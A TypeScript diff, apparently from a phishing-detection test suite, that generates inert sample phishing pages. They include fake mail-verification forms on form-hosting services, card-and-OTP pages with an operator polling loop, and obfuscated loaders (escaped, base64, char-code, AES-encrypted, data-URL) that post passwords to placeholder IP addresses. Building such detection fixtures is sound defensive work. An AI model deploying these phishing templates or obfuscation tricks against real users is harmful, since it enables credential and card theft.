@@ -1,5 +1,5 @@
 /** Kits that ask for the credentials of mail, offices, networks and authorities. Inert: nothing answers at their addresses. */
-import type { Builders, Saved } from '../index.ts';
+import type { Builders, Saved } from '../browser-report.ts';
 import { base64, blob, charCodes, escaped, hexDigits, letters } from '../obfuscation.ts';
 import { table, words } from '../words.ts';
 
@@ -84,36 +84,83 @@ en|USPS|https://usps.redelivery-pkg.top/i/update|Your package could not be deliv
 
 /** Forms that hosts of forms hand out to anybody. */
 const FORM_HOSTS: Saved[] = [
-  ['https://docs.google.com/forms/d/e/1FAIpQLSfake91/viewform?vc=0', `<html lang="en"><head><title>AT&amp;T Yahoo Mail Verification</title></head><body><form action="https://docs.google.com/forms/d/e/1FAIpQLSfake91/formResponse" method="POST" id="mG61Hd"><div role="heading">AT&T Yahoo Mail Verification</div><p>${words('en').threat}</p><label>Email Address *</label><input name="entry.77"><label>Pass word *</label><input name="entry.78"><label>Confirm Pass word *</label><input name="entry.79"><input type="hidden" name="fvv" value="1"><input type="hidden" name="fbzx" value="-99"></form><div>Never submit passwords through Google Forms.</div><script>var FB_PUBLIC_LOAD_DATA_ = [null,["",[[1,"Email Address",null,0],[2,"Pass word",null,0]]]];</script></body></html>`],
-  ['https://form.jotform.com/233312998812', `<html lang="fr"><head><title>Mise à jour SFR Mail</title></head><body><form class="jotform-form" action="https://submit.jotform.com/submit/233312998812" method="post" name="form_233312998812"><input type="hidden" name="formID" value="233312998812"><label>Adresse SFR</label><input name="q3_adresse"><label>Mot de passe SFR</label><input name="q4_motDe"><p>${words('fr').threat}</p></form><script>JotForm&&0;</script></body></html>`.replace('<script>JotForm&&0;</script>', '<script src="https://cdn.jotfor.ms/static/prototype.forms.js"></script>')],
-  ['https://forms.office.com/Pages/ResponsePage.aspx?id=DQSIkWdsW0fake', `<html lang="es"><head><title>Soporte TI: migración de buzón</title></head><body><div id="form-container"><p>El departamento de TI migra todos los buzones. Introduzca sus credenciales para no perder sus mensajes.</p><input aria-label="Correo" name="r1"><input aria-label="Contraseña actual" name="r2" type="text"></div><script>window.OfficeFormServerInfo={"serverInfo":{"serverSessionId":"9a"}};</script></body></html>`],
-  ['https://outlook-upgrade-desk.weebly.com/', `<html lang="en"><head><title>OUTLOOK WEB APP - Home</title></head><body class="wsite-page-index"><h2>IT HELP DESK 2019</h2><form enctype="multipart/form-data" action="//www.weebly.com/weebly/apps/formSubmit.php" method="POST" id="form-91"><input name="_u91"><label>Domain\\User name</label><input name="_u92"><label>Password</label><input type="password" name="_u93"><input type="hidden" name="ucfid" value="91"></form><div id="weebly-footer-signup-container-v3">Create your own unique website with customizable templates.</div></body></html>`],
+  [
+    'https://docs.google.com/forms/d/e/1FAIpQLSfake91/viewform?vc=0',
+    `<html lang="en"><head><title>AT&amp;T Yahoo Mail Verification</title></head><body><form action="https://docs.google.com/forms/d/e/1FAIpQLSfake91/formResponse" method="POST" id="mG61Hd"><div role="heading">AT&T Yahoo Mail Verification</div><p>${words('en').threat}</p><label>Email Address *</label><input name="entry.77"><label>Pass word *</label><input name="entry.78"><label>Confirm Pass word *</label><input name="entry.79"><input type="hidden" name="fvv" value="1"><input type="hidden" name="fbzx" value="-99"></form><div>Never submit passwords through Google Forms.</div><script>var FB_PUBLIC_LOAD_DATA_ = [null,["",[[1,"Email Address",null,0],[2,"Pass word",null,0]]]];</script></body></html>`,
+  ],
+  [
+    'https://form.jotform.com/233312998812',
+    `<html lang="fr"><head><title>Mise à jour SFR Mail</title></head><body><form class="jotform-form" action="https://submit.jotform.com/submit/233312998812" method="post" name="form_233312998812"><input type="hidden" name="formID" value="233312998812"><label>Adresse SFR</label><input name="q3_adresse"><label>Mot de passe SFR</label><input name="q4_motDe"><p>${words('fr').threat}</p></form><script>JotForm&&0;</script></body></html>`.replace(
+      '<script>JotForm&&0;</script>',
+      '<script src="https://cdn.jotfor.ms/static/prototype.forms.js"></script>',
+    ),
+  ],
+  [
+    'https://forms.office.com/Pages/ResponsePage.aspx?id=DQSIkWdsW0fake',
+    `<html lang="es"><head><title>Soporte TI: migración de buzón</title></head><body><div id="form-container"><p>El departamento de TI migra todos los buzones. Introduzca sus credenciales para no perder sus mensajes.</p><input aria-label="Correo" name="r1"><input aria-label="Contraseña actual" name="r2" type="text"></div><script>window.OfficeFormServerInfo={"serverInfo":{"serverSessionId":"9a"}};</script></body></html>`,
+  ],
+  [
+    'https://outlook-upgrade-desk.weebly.com/',
+    `<html lang="en"><head><title>OUTLOOK WEB APP - Home</title></head><body class="wsite-page-index"><h2>IT HELP DESK 2019</h2><form enctype="multipart/form-data" action="//www.weebly.com/weebly/apps/formSubmit.php" method="POST" id="form-91"><input name="_u91"><label>Domain\\User name</label><input name="_u92"><label>Password</label><input type="password" name="_u93"><input type="hidden" name="ucfid" value="91"></form><div id="weebly-footer-signup-container-v3">Create your own unique website with customizable templates.</div></body></html>`,
+  ],
 ];
 
 export const credentials = {
   formHost: () => FORM_HOSTS,
   mailKit: () =>
-    MAIL.map(([lang = 'en', brand = '', url = '', style = 'plain', to = ''], n): Saved => [
-      url,
-      `${n % 3 === 1 ? '' : '<!DOCTYPE html>\n'}<html lang="${n % 4 ? lang : 'en'}"><head><meta charset="utf-8"><title>${[`${brand}`, `Sign in to ${brand}`, `${brand} - ${words(lang).enter}`, 'Login', ''][n % 5]}</title>${n % 2 ? '<meta name="robots" content="noindex, nofollow, noarchive">' : ''}<link rel="shortcut icon" href="${PIXEL}"></head><body>${STYLES[style]?.(brand, lang, to, n)}${n % 6 === 5 ? `<div style="display:none">${letters(n, 20_000, 'abcdefghijklmnopqrst    ')}</div>` : ''}</body></html>`,
-    ]),
+    MAIL.map(
+      ([lang = 'en', brand = '', url = '', style = 'plain', to = ''], n): Saved => [
+        url,
+        `${n % 3 === 1 ? '' : '<!DOCTYPE html>\n'}<html lang="${n % 4 ? lang : 'en'}"><head><meta charset="utf-8"><title>${[`${brand}`, `Sign in to ${brand}`, `${brand} - ${words(lang).enter}`, 'Login', ''][n % 5]}</title>${n % 2 ? '<meta name="robots" content="noindex, nofollow, noarchive">' : ''}<link rel="shortcut icon" href="${PIXEL}"></head><body>${STYLES[style]?.(brand, lang, to, n)}${n % 6 === 5 ? `<div style="display:none">${letters(n, 20_000, 'abcdefghijklmnopqrst    ')}</div>` : ''}</body></html>`,
+      ],
+    ),
   stateKit: () =>
     STATE.map(([lang = 'en', brand = '', url = '', text = '', fields = ''], n): Saved => {
-      const inputs = fields.split(',').map((name, i) => `<div class="form-group"><label>${[words(lang).user, words(lang).card, words(lang).expiry, words(lang).password][(i + n) % 4]}</label><input class="form-control" name="${name}" type="${/pin|senha|sifre|pass|haslo|wachtwoord|mima/.test(name) ? 'password' : /doc|selfie/.test(name) ? 'file' : n % 2 ? 'tel' : 'text'}"></div>`).join('');
+      const inputs = fields
+        .split(',')
+        .map(
+          (name, i) =>
+            `<div class="form-group"><label>${[words(lang).user, words(lang).card, words(lang).expiry, words(lang).password][(i + n) % 4]}</label><input class="form-control" name="${name}" type="${/pin|senha|sifre|pass|haslo|wachtwoord|mima/.test(name) ? 'password' : /doc|selfie/.test(name) ? 'file' : n % 2 ? 'tel' : 'text'}"></div>`,
+        )
+        .join('');
       const steps = [
         `<form method="post" action="${['step2.php', 'envoi.php', '../system/send_info.php', 'index.php?page=loading', 'php/app/index.php'][n % 5]}">${inputs}<input type="hidden" name="ip" value="198.51.100.${n}"><input type="hidden" name="token" value="${hexDigits(n, 40)}"><button>${words(lang).pay}</button></form>`,
         `<div id="app"><form @submit.prevent="send">${inputs}<button>${words(lang).pay}</button></form></div><script src="https://cdn.jsdelivr.net/npm/vue@2"></script><script src="https://cdn.jsdelivr.net/npm/axios/dist/axios.min.js"></script><script>new Vue({el:'#app',methods:{send(e){axios.post('/api/v1/card',Object.fromEntries(new FormData(e.target))).then(()=>{this.wait()})},wait(){setInterval(()=>{axios.get('/api/v1/cmd?u=${hexDigits(n, 8)}').then(r=>{if(r.data.cmd=='otp')location.href='otp.html';if(r.data.cmd=='badotp')alert('OTP!');if(r.data.cmd=='finish')location.href='https://www.gov.example/'})},3000)}}})</script>`,
       ];
-      return [url, `<!DOCTYPE html><html lang="${lang}"><head><title>${brand}</title><link rel="stylesheet" href="assets/css/${brand.length}.css"><script src="https://cdnjs.cloudflare.com/ajax/libs/jquery.mask/1.14.16/jquery.mask.min.js"></script></head><body oncontextmenu="return false"><img src="./files/logo_${n}.svg" alt="${brand}"><h2>${text}</h2>${steps[n % 2]}<p>${words(lang).threat}</p></body></html>`];
+      return [
+        url,
+        `<!DOCTYPE html><html lang="${lang}"><head><title>${brand}</title><link rel="stylesheet" href="assets/css/${brand.length}.css"><script src="https://cdnjs.cloudflare.com/ajax/libs/jquery.mask/1.14.16/jquery.mask.min.js"></script></head><body oncontextmenu="return false"><img src="./files/logo_${n}.svg" alt="${brand}"><h2>${text}</h2>${steps[n % 2]}<p>${words(lang).threat}</p></body></html>`,
+      ];
     }),
   written: () =>
-    ([
-      ['https://s3.us-west-2.amazonaws.com/fax-9912/view.htm', `<script language="javascript">document.write(unescape('${escaped(`<html><title>OneDrive</title><form action="https://203.0.113.9/next.php" method="post"><input name=email><input type=password name=pass><input type=submit value="Download"></form></html>`)}'));</script>`],
-      ['http://wfrtx.example/invoice.shtml', `<script>var m='${escaped(escaped('<form method="post" action="http://203.0.113.2/a.php"><b>Excel Online</b><input name="u"><input name="p" type="password"></form>'))}';document.write(unescape(unescape(m)));</script>`],
-      ['https://quarantine-portal.pages.dev/?x=9', `<script>document.documentElement.innerHTML=decodeURIComponent(escape(atob("${base64('<title>Messages held | Webmail</title><div>You have (6) pending messages. Log in to release.</div><form action="https://198.51.100.3/r.php" method="POST"><input name="login" type="email"><input name="passwd" type="password"></form>')}")));</script>`],
-      ['https://voicemail-9a.azurewebsites.net/', `<body><script>(function(){var c=[${charCodes('<form action="//198.51.100.4/v.php" method="post"><h3>Voicemail 00:48</h3><input name="usr"><input name="pwd" type="password"></form>', 7)}],s="";for(var i=0;i<c.length;i++)s+=String.fromCharCode(c[i]-7);document.body.innerHTML+=s})()</script></body>`],
-      ['https://www.iglesia-nueva-vida.example/wp-includes/SimplePie/dhl/', `<script>var _$=atob('${base64('var f=document.createElement("form");f.method="post";f.action="t.php";f.innerHTML="<img src=dhl.png><input name=mail><input name=parola type=password>";document.body.appendChild(f)')}');(new Function(_$))();</script><body>`],
-      ['https://secure-msg.r2.example/encrypted.html', `<script src="https://cdnjs.cloudflare.com/ajax/libs/crypto-js/4.1.1/crypto-js.min.js"></script><script>let d={"a":"${blob(8, 1800)}","b":"${hexDigits(8, 64)}","c":"${hexDigits(9, 32)}","d":"${hexDigits(10, 24)}"};function CryptoJSAesDecrypt(p,o){var e=CryptoJS.enc.Hex.parse(o.b),i=CryptoJS.enc.Hex.parse(o.c),k=CryptoJS.PBKDF2(p,e,{hasher:CryptoJS.algo.SHA512,keySize:8,iterations:999});return CryptoJS.AES.decrypt(o.a,k,{iv:i}).toString(CryptoJS.enc.Utf8)}document.write(CryptoJSAesDecrypt("${hexDigits(11, 10)}",d));</script>`],
-      ['https://portal-check.example/r/9', `<form id="d" action="data:text/html;base64,${base64('<form action="https://203.0.113.5/p.php" method=post><h1>PayPal</h1><input name=email><input type=password name=pw></form>')}"></form><p>Loading PayPal Security Center...</p><script>location.href=document.getElementById('d').getAttribute('action')</script>`],
-    ] as Saved[]),
+    [
+      [
+        'https://s3.us-west-2.amazonaws.com/fax-9912/view.htm',
+        `<script language="javascript">document.write(unescape('${escaped(`<html><title>OneDrive</title><form action="https://203.0.113.9/next.php" method="post"><input name=email><input type=password name=pass><input type=submit value="Download"></form></html>`)}'));</script>`,
+      ],
+      [
+        'http://wfrtx.example/invoice.shtml',
+        `<script>var m='${escaped(escaped('<form method="post" action="http://203.0.113.2/a.php"><b>Excel Online</b><input name="u"><input name="p" type="password"></form>'))}';document.write(unescape(unescape(m)));</script>`,
+      ],
+      [
+        'https://quarantine-portal.pages.dev/?x=9',
+        `<script>document.documentElement.innerHTML=decodeURIComponent(escape(atob("${base64('<title>Messages held | Webmail</title><div>You have (6) pending messages. Log in to release.</div><form action="https://198.51.100.3/r.php" method="POST"><input name="login" type="email"><input name="passwd" type="password"></form>')}")));</script>`,
+      ],
+      [
+        'https://voicemail-9a.azurewebsites.net/',
+        `<body><script>(function(){var c=[${charCodes('<form action="//198.51.100.4/v.php" method="post"><h3>Voicemail 00:48</h3><input name="usr"><input name="pwd" type="password"></form>', 7)}],s="";for(var i=0;i<c.length;i++)s+=String.fromCharCode(c[i]-7);document.body.innerHTML+=s})()</script></body>`,
+      ],
+      [
+        'https://www.iglesia-nueva-vida.example/wp-includes/SimplePie/dhl/',
+        `<script>var _$=atob('${base64('var f=document.createElement("form");f.method="post";f.action="t.php";f.innerHTML="<img src=dhl.png><input name=mail><input name=parola type=password>";document.body.appendChild(f)')}');(new Function(_$))();</script><body>`,
+      ],
+      [
+        'https://secure-msg.r2.example/encrypted.html',
+        `<script src="https://cdnjs.cloudflare.com/ajax/libs/crypto-js/4.1.1/crypto-js.min.js"></script><script>let d={"a":"${blob(8, 1800)}","b":"${hexDigits(8, 64)}","c":"${hexDigits(9, 32)}","d":"${hexDigits(10, 24)}"};function CryptoJSAesDecrypt(p,o){var e=CryptoJS.enc.Hex.parse(o.b),i=CryptoJS.enc.Hex.parse(o.c),k=CryptoJS.PBKDF2(p,e,{hasher:CryptoJS.algo.SHA512,keySize:8,iterations:999});return CryptoJS.AES.decrypt(o.a,k,{iv:i}).toString(CryptoJS.enc.Utf8)}document.write(CryptoJSAesDecrypt("${hexDigits(11, 10)}",d));</script>`,
+      ],
+      [
+        'https://portal-check.example/r/9',
+        `<form id="d" action="data:text/html;base64,${base64('<form action="https://203.0.113.5/p.php" method=post><h1>PayPal</h1><input name=email><input type=password name=pw></form>')}"></form><p>Loading PayPal Security Center...</p><script>location.href=document.getElementById('d').getAttribute('action')</script>`,
+      ],
+    ] as Saved[],
 } satisfies Builders;
